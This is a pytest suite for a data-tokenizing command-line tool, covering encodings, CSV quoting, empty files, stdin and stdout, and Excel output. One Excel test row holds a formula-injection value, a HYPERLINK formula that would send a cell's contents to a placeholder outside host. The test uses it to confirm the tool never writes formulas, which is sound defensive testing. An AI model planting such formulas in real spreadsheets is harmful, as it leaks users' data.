"""Files users trust, in the real command process (the installed ``tokenize-kit``): gzip, UTF-16, delimiters,
CSV read as text everywhere, broken quoting, header-only and zero-row inputs, standard input and output,
missing folders, and .xlsx that keeps its cell types, sheet name and never writes a formula."""

from __future__ import annotations

import datetime
import gzip
import json
import os
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.messy_files import rows, write_csv, write_policy
from tokenize_kit.keys import Keyset

warnings.filterwarnings("ignore", message="keyset .* is not passphrase-protected")

#: the installed command (console script), as users run it
TK = Path(sys.executable).with_name("tokenize-kit")
SECRET_ID = "29801010123456"
SECRET_MOBILE = "01012345678"
POLICY = "columns:\n  id: {type: eg_national_id}\n  mobile: {type: phone}\n"


@pytest.fixture()
def env(tmp_path):
    ks = tmp_path / "keys.json"
    Keyset.generate().save(ks, passphrase="pw")
    (tmp_path / "p.yaml").write_text(POLICY, encoding="utf-8")
    return tmp_path


def tk(env: Path, *args: str, code: int | None = 0, stdin: bytes | None = None) -> subprocess.CompletedProcess:
    """Run the installed command in ``env``; assert its exit status and that no traceback escaped."""
    environ = {**os.environ, "TOKENIZE_KIT_KEYSET": str(env / "keys.json"), "TOKENIZE_KIT_PASSPHRASE": "pw"}
    proc = subprocess.run([str(TK), *args], cwd=env, input=stdin, capture_output=True, env=environ, timeout=300)
    err = proc.stderr.decode("utf-8", "replace")
    if code is not None:
        assert proc.returncode == code, err
    assert "Traceback" not in err, err
    return proc


def err(proc: subprocess.CompletedProcess) -> str:
    return proc.stderr.decode("utf-8", "replace")


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".") or p.name == "-")


# -- gzip -----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "tsv", "jsonl"])
def test_gzip_output_is_gzip_and_reads_back(env, fmt):
    src = write_csv(env / "in.csv", rows(30))
    write_policy(env / "pol.yaml")
    tk(env, "tokenize", "in.csv", f"out.{fmt}.gz", "--policy", "pol.yaml", "-q")
    data = (env / f"out.{fmt}.gz").read_bytes()
    assert data[:2] == b"\x1f\x8b"
    assert gzip.decompress(data).count(b"\n") >= 30
    manifest = json.loads((env / f"out.{fmt}.gz.manifest.json").read_text())
    import hashlib

    assert manifest["output"]["sha256"] == hashlib.sha256(data).hexdigest()
    assert tk(env, "verify", f"out.{fmt}.gz", "--allow-unsigned").stdout.startswith(b"OK")
    if fmt == "csv":
        tk(env, "scan", f"out.{fmt}.gz", "--against", "in.csv", "--policy", "pol.yaml")
    tk(env, "detokenize", f"out.{fmt}.gz", "back.csv", "--policy", "pol.yaml", "-q", "--output-encoding", "utf-8-sig")
    assert (env / "back.csv").read_bytes() == src.read_bytes()
    # re-runs are byte-identical (no time or file name in the gzip header)
    tk(env, "tokenize", "in.csv", f"again.{fmt}.gz", "--policy", "pol.yaml", "-q")
    assert (env / f"again.{fmt}.gz").read_bytes() == data


def test_gzip_input_by_content_not_name(env):
    (env / "in.csv").write_bytes(gzip.compress(f"id,mobile\n{SECRET_ID},{SECRET_MOBILE}\n".encode()))
    out = tk(env, "tokenize", "in.csv", "out.csv", "--policy", "p.yaml", "-q")
    text = (env / "out.csv").read_text()
    assert text.startswith("id,mobile") and SECRET_ID not in text, err(out)


def test_gzip_refused_for_parquet_and_xlsx(env):
    (env / "in.csv").write_text(f"id,mobile\n{SECRET_ID},{SECRET_MOBILE}\n")
    for name in ("out.parquet.gz", "out.xlsx.gz"):
        proc = tk(env, "tokenize", "in.csv", name, "--policy", "p.yaml", "-q", code=2)
        assert "compressed already" in err(proc) and not (env / name).exists()


# -- encodings and delimiters ------------------------------------------------------------------------
@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_unicode_text_round_trip(env, codec):
    """Excel's "Unicode Text": UTF-16 with a BOM, tab-delimited, CRLF; read and written back as it came."""
    bom = b"\xff\xfe" if codec == "utf-16-le" else b"\xfe\xff"
    text = f"id\tmobile\tالاسم\r\n{SECRET_ID}\t{SECRET_MOBILE}\tأحمد\r\n30001010123458\t01112345678\tسارة\r\n"
    src = env / "unicode.txt"
    src.write_bytes(bom + text.encode(codec))
    tk(env, "tokenize", "unicode.txt", "out.txt", "--policy", "p.yaml", "-q")
    out = (env / "out.txt").read_bytes()
    assert out.startswith(bom)
    decoded = out[2:].decode(codec)
    assert decoded.startswith("id\tmobile\tالاسم\r\n") and decoded.count("\t") == 6 and "أحمد" in decoded
    assert SECRET_ID not in decoded and SECRET_MOBILE not in decoded
    tk(env, "detokenize", "out.txt", "back.txt", "--policy", "p.yaml", "-q")
    assert (env / "back.txt").read_bytes() == src.read_bytes()


@pytest.mark.parametrize("codec", ["cp1256", "utf-16"])
def test_arrow_never_holds_a_python_codec(tmp_path, monkeypatch, codec):
    """A file not in UTF-8 is re-encoded in the caller's thread before Arrow reads it.  Arrow's own transcoding
    holds a Python codec in its read-ahead threads; a read stopped early (a ragged row) left one in flight, and at
    exit it aborted the process about once in 150 runs ("terminate called without an active exception")."""
    import pyarrow.csv as pacsv

    from tokenize_kit import io as tio

    seen: list[str] = []
    real = pacsv.ReadOptions

    def spy(*args, **kwargs):
        seen.append(kwargs.get("encoding", "utf8"))
        return real(*args, **kwargs)

    monkeypatch.setattr(pacsv, "ReadOptions", spy)
    path = tmp_path / "in.csv"
    path.write_bytes("id,الاسم\n1,أحمد\n2,سارة\n".encode(codec))
    batches, _ = tio.read_batches(path, "csv", encoding=codec)
    assert pa.Table.from_batches(list(batches)).column(1).to_pylist() == ["أحمد", "سارة"]
    path.write_bytes("id,الاسم\n1,أحمد\n2\n".encode(codec))  # ragged: the read stops early
    batches, _ = tio.read_batches(path, "csv", encoding=codec)
    with pytest.raises(tio.InputError, match="line 3 has 1 fields"):
        list(batches)
    assert seen and set(seen) == {"utf8"}


@pytest.mark.parametrize(("text", "line"), [
    (b'{"id": "1", "n\xff": 1}\n', 1),  # a top-level key
    (b'{"id": "1", "a": {"b": 1}}\n{"id": "2", "a": {"b": 2, "c\x80": [1]}}\n', 2),  # a key inside a struct
    (b'{"id": "1", "a": [{"b\x80": 1}]}\n', 1),  # inside a list of objects
])
def test_jsonl_key_not_utf8_names_its_line(env, text, line):
    """Arrow takes any bytes as a key; a key that is not UTF-8 is an input error naming its line (it was an
    internal error, exit 3, when the key was nested)."""
    (env / "in.jsonl").write_bytes(text)
    proc = tk(env, "tokenize", "in.jsonl", "out.jsonl", "--policy", "p.yaml", "-q", code=2)
    assert f"line {line}: bytes that are not UTF-8" in err(proc)
    assert not (env / "out.jsonl").exists()


def test_utf16_override_does_not_loop_its_advice(env):
    (env / "in.csv").write_bytes(b"id,mobile\n1,2\n\xff\xfe\xfa\n")
    proc = tk(env, "tokenize", "in.csv", "out.csv", "--policy", "p.yaml", "--encoding", "utf-8", code=2)
    message = err(proc)
    assert "line 3" in message and "--encoding" in message and "utf-16" in message and "cp1256" in message


def test_utf16_output_encoding_writes_one_bom(env):
    (env / "in.csv").write_text(f"id,mobile\n{SECRET_ID},{SECRET_MOBILE}\n" * 1 + "30001010123458,01112345678\n")
    tk(env, "tokenize", "in.csv", "out.csv", "--policy", "p.yaml", "-q", "--output-encoding", "utf-16",
       "--batch-size", "1000")
    data = (env / "out.csv").read_bytes()
    assert data.startswith(b"\xff\xfe") and data.count(b"\xff\xfe") == 1
    assert data[2:].decode("utf-16-le").startswith("id,mobile\n")


@pytest.mark.parametrize(("delim", "name"), [(";", "in.csv"), ("\t", "in.csv"), ("\t", "in.tsv"), ("|", "in.csv")])
def test_delimiter_detected_or_given_and_kept(env, delim, name):
    text = f"id{delim}mobile{delim}amount\n{SECRET_ID}{delim}{SECRET_MOBILE}{delim}1,50\n"
    (env / name).write_text(text, encoding="utf-8")
    args = ["--delimiter", "pipe"] if delim == "|" else []
    out_name = "out" + Path(name).suffix
    tk(env, "tokenize", name, out_name, "--policy", "p.yaml", "-q", *args)
    out = (env / out_name).read_text(encoding="utf-8")
    assert out.startswith(f"id{delim}mobile{delim}amount\n") and out.rstrip("\n").endswith(f"{delim}1,50")
    assert SECRET_ID not in out


def test_semicolon_file_read_as_one_column_gets_a_hint(env):
    (env / "in.csv").write_text(f"id;mobile\n{SECRET_ID};{SECRET_MOBILE}\n")
    proc = tk(env, "tokenize", "in.csv", "out.csv", "--policy", "p.yaml", "--delimiter", ",", code=2)
    message = err(proc)
    assert "--delimiter" in message and "';'" in message and SECRET_ID not in message


# -- CSV as text, quoting -------------------------------------------------------------------------------
def test_header_with_quoted_newline_keeps_every_cell_as_text(env):
    (env / "p2.yaml").write_text("columns:\n  id: {type: eg_national_id}\n")
    (env / "in.csv").write_text(f'"notes\nmore",mobile,id,amount\nx,{SECRET_MOBILE},{SECRET_ID},0012.50\n')
    tk(env, "tokenize", "in.csv", "out.csv", "--policy", "p2.yaml", "-q")
    out = (env / "out.csv").read_text()
    assert f",{SECRET_MOBILE}," in out and out.rstrip("\n").endswith(",0012.50") and '"notes\nmore"' in out


@pytest.mark.parametrize(("content", "line"), [
    (f'id,mobile\n{SECRET_ID},"{SECRET_MOBILE}\n{SECRET_ID},x\n{SECRET_ID},y\n', 2),  # never closed
    (f'id,mobile\n{SECRET_ID},x\n{SECRET_ID},"ab\n{SECRET_ID},"y"z\n', 3),  # closed mid-field
])
def test_unterminated_quote_is_an_error_with_its_line(env, content, line):
    (env / "in.csv").write_text(content)
    proc = tk(env, "tokenize", "in.csv", "out.csv", "--policy", "p.yaml", code=2)
    message = err(proc)
    assert f"line {line}" in message and "quote" in message and SECRET_ID not in message
    assert not (env / "out.csv").exists() and not leftovers(env)


def test_multiline_cells_still_pass(env):
    (env / "in.csv").write_text(f'id,mobile,notes\n{SECRET_ID},{SECRET_MOBILE},"line one\nline ""two"""\n')
    tk(env, "tokenize", "in.csv", "out.csv", "--policy", "p.yaml", "-q")
    assert (env / "out.csv").read_text().endswith('"line one\nline ""two"""\n')


# -- empty inputs ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("out_fmt", ["csv", "tsv", "parquet", "xlsx", "jsonl"])
def test_header_only_csv_gives_header_only_output(env, out_fmt):
    (env / "in.csv").write_text("id,mobile,other\n")
    tk(env, "tokenize", "in.csv", f"out.{out_fmt}", "--policy", "p.yaml", "-q")
    out = env / f"out.{out_fmt}"
    if out_fmt == "csv":
        assert out.read_text() == "id,mobile,other\n"
    elif out_fmt == "tsv":
        assert out.read_text() == "id\tmobile\tother\n"
    elif out_fmt == "parquet":
        table = pq.read_table(out)
        assert table.num_rows == 0 and table.column_names == ["id", "mobile", "other"]
    elif out_fmt == "xlsx":
        import openpyxl

        ws = openpyxl.load_workbook(out).active
        assert [c.value for c in ws[1]] == ["id", "mobile", "other"] and ws.max_row == 1
    else:
        assert out.read_bytes() == b""  # JSON Lines has no header: zero rows are an empty file
    assert json.loads((env / f"out.{out_fmt}.manifest.json").read_text())["rows"] == 0


def test_zero_row_parquet_and_xlsx_keep_their_columns(env):
    schema = pa.schema([("id", pa.int64()), ("mobile", pa.string()), ("amount", pa.float64())])
    pq.write_table(schema.empty_table(), env / "in.parquet")
    tk(env, "tokenize", "in.parquet", "out.parquet", "--policy", "p.yaml", "-q")
    assert pq.read_table(env / "out.parquet").schema.names == ["id", "mobile", "amount"]
    assert pq.read_table(env / "out.parquet").schema.field("amount").type == pa.float64()
    tk(env, "tokenize", "in.parquet", "out.csv", "--policy", "p.yaml", "-q")
    assert (env / "out.csv").read_bytes() == b"id,mobile,amount\r\n"
    tk(env, "tokenize", "out.parquet", "out.xlsx", "--policy", "p.yaml", "-q")
    tk(env, "tokenize", "out.xlsx", "again.csv", "--policy", "p.yaml", "-q")
    assert (env / "again.csv").read_bytes() == b"id,mobile,amount\r\n"


def test_missing_policy_column_in_header_only_file(env):
    (env / "in.csv").write_text("id,other\n")
    assert "'mobile'" in err(tk(env, "tokenize", "in.csv", "out.csv", "--policy", "p.yaml", code=2))


# -- standard input and output -----------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "tsv", "jsonl"])
def test_stdin_to_stdout_with_manifest(env, fmt):
    import hashlib
    import io

    import pyarrow.csv as pacsv

    from tokenize_kit.io import BatchWriter, TextEncoding

    src = write_csv(env / "in.csv", rows(25), encoding="utf-8")
    write_policy(env / "pol.yaml")
    names = pacsv.read_csv(src).column_names
    table = pacsv.read_csv(src, convert_options=pacsv.ConvertOptions(column_types=dict.fromkeys(names, pa.string())))
    buf = io.BytesIO()
    writer = BatchWriter(buf, fmt, TextEncoding("utf-8", newline="\n"))
    for batch in table.to_batches():
        writer.write(batch)
    writer.close()
    data = buf.getvalue()
    fmt_args = ["--input-format", fmt] if fmt != "csv" else []
    proc = tk(env, "tokenize", "-", "-", "--policy", "pol.yaml", "--manifest", "m.json", "-q", *fmt_args, stdin=data)
    assert proc.stdout and proc.stdout != data and rows(25)[0][0] not in proc.stdout.decode()
    manifest = json.loads((env / "m.json").read_text())
    assert manifest["output"]["sha256"] == hashlib.sha256(proc.stdout).hexdigest()
    assert manifest["input"]["sha256"] == hashlib.sha256(data).hexdigest()
    assert manifest["input"]["name"] == "<stdin>" and manifest["output"]["name"] == "<stdout>"
    assert not (env / "-").exists() and not leftovers(env)
    back = tk(env, "detokenize", "-", "-", "--policy", "pol.yaml", "--output-manifest", "m2.json", "-q", *fmt_args,
              stdin=proc.stdout)
    assert back.stdout == data and (env / "m2.json").exists()


def test_stdout_needs_manifest_and_writes_nothing_on_error(env):
    (env / "in.csv").write_text(f"id,mobile\n{SECRET_ID},{SECRET_MOBILE}\n")
    proc = tk(env, "tokenize", "in.csv", "-", "--policy", "p.yaml", code=2)
    assert "--manifest" in err(proc) and proc.stdout == b"" and not (env / "-").exists()
    (env / "strict.yaml").write_text("columns:\n  id: {type: eg_national_id, on_invalid: error}\n")
    (env / "bad.csv").write_text(f"id\n{SECRET_ID}\n12345\n")
    proc = tk(env, "tokenize", "bad.csv", "-", "--policy", "strict.yaml", "--manifest", "m.json", code=2)
    assert proc.stdout == b"" and not (env / "m.json").exists() and not (env / "-").exists()


def test_stdin_format_sniffed(env):
    data = (f'{{"id":"{SECRET_ID}","mobile":"{SECRET_MOBILE}"}}\n').encode()
    proc = tk(env, "tokenize", "-", "out.jsonl", "--policy", "p.yaml", "-q", stdin=data)
    out = (env / "out.jsonl").read_text()
    assert SECRET_ID not in out and json.loads(out).keys() == {"id", "mobile"}, err(proc)


# -- output folders -------------------------------------------------------------------------------------
def test_missing_output_folder_is_a_clear_error(env):
    (env / "in.csv").write_text(f"id,mobile\n{SECRET_ID},{SECRET_MOBILE}\n")
    proc = tk(env, "tokenize", "in.csv", "no/such/dir/out.csv", "--policy", "p.yaml", code=2)
    assert "does not exist" in err(proc) and "no/such/dir" in err(proc)
    proc = tk(env, "tokenize", "in.csv", "out.csv", "--policy", "p.yaml", "--manifest", "nope/m.json", code=2)
    assert "does not exist" in err(proc) and not (env / "out.csv").exists()


# -- .xlsx --------------------------------------------------------------------------------------------
def _workbook(path: Path, rows_: list[list], title: str = "عملاء 2024") -> Path:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title
    for r in rows_:
        ws.append(r)
    for row in ws.iter_rows():
        for c in row:
            if isinstance(c.value, str) and c.value.startswith("="):
                c.data_type = "s"  # text that starts with '=' (as an input note can), not a formula
    wb.save(path)
    return path


XLSX_ROWS = [
    ["id", "mobile", "amount", "count", "due", "paid_at", "vip", "notes", "mixed"],
    [SECRET_ID, SECRET_MOBILE, 1250.5, 3, datetime.date(2024, 1, 31), datetime.datetime(2024, 2, 1, 9, 30), True,
     '=HYPERLINK("http://x.example/?"&A2,"click")', 12],
    ["30001010123458", 1112345678, 99.0, 0, datetime.date(2023, 12, 1), datetime.datetime(2024, 2, 2, 18, 5, 7),
     False, "+1 call back", "N/A"],
]


def test_xlsx_keeps_types_sheet_name_and_never_writes_a_formula(env):
    import openpyxl

    _workbook(env / "in.xlsx", XLSX_ROWS)
    tk(env, "tokenize", "in.xlsx", "out.xlsx", "--policy", "p.yaml", "-q")
    wb = openpyxl.load_workbook(env / "out.xlsx")
    ws = wb.active
    assert ws.title == "عملاء 2024"
    got = [[c.value for c in row] for row in ws.iter_rows()]
    types = [[c.data_type for c in row] for row in ws.iter_rows()]
    assert got[0] == XLSX_ROWS[0]
    for r in (1, 2):
        due = datetime.datetime.combine(XLSX_ROWS[r][4], datetime.time())
        assert got[r][2:8] == [*XLSX_ROWS[r][2:4], due, *XLSX_ROWS[r][5:8]]
        assert got[r][0] != XLSX_ROWS[r][0] and str(got[r][1]) != str(XLSX_ROWS[r][1])
    assert types[1][7] == "s" and types[2][7] == "s"  # text, never a formula ('f')
    assert got[1][8] == 12 and types[1][8] == "n" and got[2][8] == "N/A"  # a mixed column keeps each cell's kind
    assert all(t != "f" for row in types for t in row)
    assert ws.cell(2, 5).number_format == "yyyy-mm-dd" and ws.cell(2, 6).is_date
    with zipfile.ZipFile(env / "out.xlsx") as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "HYPERLINK" in sheet
    tk(env, "detokenize", "out.xlsx", "back.xlsx", "--policy", "p.yaml", "-q")
    back = [[c.value for c in row] for row in openpyxl.load_workbook(env / "back.xlsx").active.iter_rows()]
    assert back[1][0] == SECRET_ID and back[2][1] in ("1112345678", 1112345678)


def test_xlsx_rerun_is_byte_identical(env):
    _workbook(env / "in.xlsx", XLSX_ROWS)
    tk(env, "tokenize", "in.xlsx", "a.xlsx", "--policy", "p.yaml", "-q")
    os.utime(env / "in.xlsx", (1, 1))
    tk(env, "tokenize", "in.xlsx", "b.xlsx", "--policy", "p.yaml", "-q")
    assert (env / "a.xlsx").read_bytes() == (env / "b.xlsx").read_bytes()
    with zipfile.ZipFile(env / "a.xlsx") as zf:
        assert {i.date_time for i in zf.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert not any("docProps" in n for n in zf.namelist())  # no document timestamps at all


def test_xlsx_formula_without_cached_value_names_column_and_row(env):
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "mobile", "total"])
    ws.append([SECRET_ID, SECRET_MOBILE, 5])
    ws.append(["=B2", SECRET_MOBILE, "=C2*2"])  # openpyxl saves formulas without cached values
    wb.save(env / "in.xlsx")
    proc = tk(env, "tokenize", "in.xlsx", "out.csv", "--policy", "p.yaml", code=2)
    message = err(proc)
    assert "column 'id', row 3" in message and "formula" in message and SECRET_ID not in message
    assert not (env / "out.csv").exists()


def test_xlsx_formula_with_cached_value_gives_the_value(env):
    sheet = ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c>'
             '<c r="B1" t="inlineStr"><is><t>mobile</t></is></c><c r="C1" t="inlineStr"><is><t>n</t></is></c></row>'
             f'<row r="2"><c r="A2" t="str"><f>"{SECRET_ID}"</f><v>{SECRET_ID}</v></c>'
             f'<c r="B2" t="inlineStr"><is><t>{SECRET_MOBILE}</t></is></c><c r="C2"><f>1+1</f><v>2</v></c></row>'
             '</sheetData></worksheet>')
    _raw_xlsx(env / "in.xlsx", sheet)
    tk(env, "tokenize", "in.xlsx", "out.csv", "--policy", "p.yaml", "-q")
    out = (env / "out.csv").read_text()
    assert SECRET_ID not in out and out.rstrip().endswith(",2")


def _raw_xlsx(path: Path, sheet_xml: str, extra: dict[str, bytes] | None = None, shared: str | None = None) -> Path:
    """A minimal workbook around a hand-written sheet (to build cases Excel itself would not write)."""
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'worksheet" Target="worksheets/sheet1.xml"/>'
            + ('<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
               'sharedStrings" Target="sharedStrings.xml"/>' if shared is not None else "")
            + "</Relationships>")
    book = ('<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            '<sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/workbook.xml", book)
        zf.writestr("xl/_rels/workbook.xml.rels", rels)
        zf.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        if shared is not None:
            zf.writestr("xl/sharedStrings.xml", shared)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return path


def test_xlsx_text_excel_cannot_hold_is_refused_not_truncated(env):
    (env / "in.csv").write_text(f"id,mobile,notes\n{SECRET_ID},{SECRET_MOBILE},{'x' * 40000}\n")
    proc = tk(env, "tokenize", "in.csv", "out.xlsx", "--policy", "p.yaml", code=2)
    assert "column 'notes', row 1" in err(proc) and "32,767" in err(proc) and not (env / "out.xlsx").exists()


def test_xlsx_control_characters_and_escapes_round_trip(env):
    notes = "a\r\nb\x01c _x0041_ <&> \u00a0"
    (env / "in.parquet").write_bytes(b"")
    pq.write_table(pa.table({"id": [SECRET_ID], "mobile": [SECRET_MOBILE], "notes": [notes]}), env / "in.parquet")
    tk(env, "tokenize", "in.parquet", "out.xlsx", "--policy", "p.yaml", "-q")
    tk(env, "detokenize", "out.xlsx", "back.parquet", "--policy", "p.yaml", "-q")
    assert pq.read_table(env / "back.parquet").column("notes").to_pylist() == [notes]


def test_scan_reads_xlsx_columns_mixing_text_and_numbers(env):
    ids = ["29801010123456", "30001010123458", "29901010123451", "30101010123455", "29501010123459", "29701010123452"]
    _workbook(env / "in.xlsx", [["who", "n"]] + [[v if i % 2 else int(v), i] for i, v in enumerate(ids)])
    proc = tk(env, "scan", "in.xlsx", "--format", "json", code=1)
    doc = json.loads(proc.stdout)
    assert any(c["column"] == "who" and "national_id" in c["values"] for c in doc["columns"])


def test_no_file_named_dash_is_ever_written(env):
    (env / "in.csv").write_text(f"id,mobile\n{SECRET_ID},{SECRET_MOBILE}\n")
    proc = tk(env, "tokenize", "in.csv", "out.csv", "--policy", "p.yaml", "--manifest", "-", code=2)
    assert "'-'" in err(proc) and not (env / "-").exists() and not (env / "out.csv").exists()
    tk(env, "scan", "in.csv", "--suggest-policy", "-", code=2)
    assert not (env / "-").exists()
    proc = tk(env, "scan", "-", "--format", "json", code=1, stdin=(env / "in.csv").read_bytes())
    assert json.loads(proc.stdout)["rows"] == 1


def test_stdout_closed_early_is_an_error_and_removes_the_manifest(env):
    with open(env / "in.csv", "w") as fh:
        fh.write("id,mobile\n")
        fh.writelines(f"2980101{i:07d},010{i:08d}\n" for i in range(20_000))
    environ = {**os.environ, "TOKENIZE_KIT_KEYSET": str(env / "keys.json"), "TOKENIZE_KIT_PASSPHRASE": "pw"}
    proc = subprocess.Popen([str(TK), "tokenize", "in.csv", "-", "--policy", "p.yaml", "--manifest", "m.json", "-q"],
                            cwd=env, env=environ, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout.read(100)
    proc.stdout.close()  # the reader stops early, as `| head` does
    stderr = proc.stderr.read().decode()
    assert proc.wait(timeout=120) == 2, stderr
    assert "standard output was closed" in stderr and "Traceback" not in stderr and "Exception ignored" not in stderr
    assert not (env / "m.json").exists() and not leftovers(env)
